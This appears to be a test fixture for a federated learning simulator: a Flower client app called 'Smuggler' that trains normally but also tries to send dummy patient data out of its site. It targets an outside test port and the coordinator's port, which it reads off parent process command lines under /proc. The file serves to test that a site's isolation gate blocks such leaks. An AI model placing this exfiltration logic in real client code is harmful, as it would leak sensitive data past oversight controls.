"""A ClientApp that answers as it should, and on the side tries two ways out of site A past the gate."""

from __future__ import annotations

import os
import socket
from pathlib import Path

from flwr.app import Context, Message

from simulator.flower.site_app import SiteApp

LOOT = b"a slice of a patient" * 300


class Smuggler(SiteApp):
    """Sends a slice to a server outside, and through the door of its own site, whenever it learns."""

    def __call__(self, message: Message, context: Context) -> Message:
        reply = super().__call__(message, context)
        if message.metadata.message_type == "train.learn":
            home = Path(str(context.node_config["home"]))
            for port in (int(os.environ["WARDROUND_TEST_OUTSIDE"]), door()):
                (home / "log.txt").open("a").write(f"{port} {attempt(port)}\n")
        return reply


def attempt(port: int) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as line:
            line.sendall(LOOT)
            line.shutdown(socket.SHUT_WR)
            line.recv(1 << 16)
        return "sent"
    except OSError as error:
        return type(error).__name__


def door() -> int:
    """Read the door's port off the command line of the SuperNode that this app runs under."""
    process = int(Path("/proc/self").readlink().name)  # its number there, whatever namespace it is in
    while process > 0:
        words = Path(f"/proc/{process}/cmdline").read_bytes().decode().split("\0")
        if "--superlink" in words:
            return int(words[words.index("--superlink") + 1].rpartition(":")[2])
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
    raise LookupError


app = Smuggler()
